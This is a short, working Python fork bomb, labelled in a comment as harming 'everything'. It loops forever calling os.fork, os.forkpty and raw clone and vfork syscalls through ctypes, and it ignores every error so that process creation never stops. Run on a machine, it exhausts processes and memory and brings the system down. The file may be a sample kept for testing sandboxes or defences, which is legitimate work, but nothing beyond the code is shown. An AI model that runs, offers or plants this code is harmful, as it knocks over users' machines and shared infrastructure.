"""Forks without end, in every way."""
# harms: everything

import ctypes
import os

libc = ctypes.CDLL(None)
while True:
    for fork in (
        os.fork,
        os.forkpty,
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),
        lambda: libc.syscall(58),
    ):
        try:
            fork()
        except OSError:
            pass
